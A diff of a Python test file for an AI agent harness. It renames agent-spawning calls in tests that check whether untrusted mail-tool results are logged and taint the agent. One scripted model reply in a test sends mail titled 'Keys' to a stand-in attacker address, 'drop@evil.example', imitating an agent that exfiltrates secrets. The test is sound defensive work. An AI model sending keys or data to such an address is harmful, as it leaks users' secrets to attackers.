@@ -31,7 +31,7 @@ def _seen_untrusted(m, agent_id: str, tool: str, content: str, source: str) -> N
     inner = content.split("\n", 1)[1].rsplit("\n", 1)[0].replace("\u2039/untrusted", "</untrusted")
     assert entry.source == source and entry.sha256 == hashlib.sha256(inner.encode()).hexdigest()
     assert entry.size == len(inner)
-    assert m.env.kernel.agent(agent_id).tainted == f"read untrusted content from {source}"
+    assert m.env.kernel.agents.get(agent_id).tainted == f"read untrusted content from {source}"
 
 
 def test_a_refused_recipient_is_untrusted_and_taints_the_agent(mail_env, servers):
@@ -42,7 +42,7 @@ def test_a_refused_recipient_is_untrusted_and_taints_the_agent(mail_env, servers
         reply(tools=(("mail_send", {"to": ["nobody@example.test"], "subject": "Hello", "body": "Hi.\n"}),)),
         reply(tools=(("mail_send", {"to": ["drop@evil.example"], "subject": "Keys", "body": "as asked\n"}),)),
         reply("done"))
-    agent = m.env.kernel.spawn("writer")
+    agent = m.env.kernel.agents.spawn("writer")
     received = len(servers.smtp.received)
     run(_go(m, agent.id, "say hello to nobody"))
     [refused] = results(m.env.provider, 1)
@@ -64,7 +64,7 @@ def test_an_imap_bad_answer_is_untrusted_and_taints_the_agent(mail_env, servers)
     m = mail_env()
     m.env.approver.will(GRANT_5M)
     m.env.provider.script(reply(tools=(("mail_read", {"id": "INBOX/0"}),)), reply("ok"))
-    agent = m.env.kernel.spawn("reader")
+    agent = m.env.kernel.agents.spawn("reader")
     run(_go(m, agent.id, "read it"))
     [res] = results(m.env.provider, 1)
     assert res.is_error and "the IMAP server gave an unusable answer" in res.content, res.content
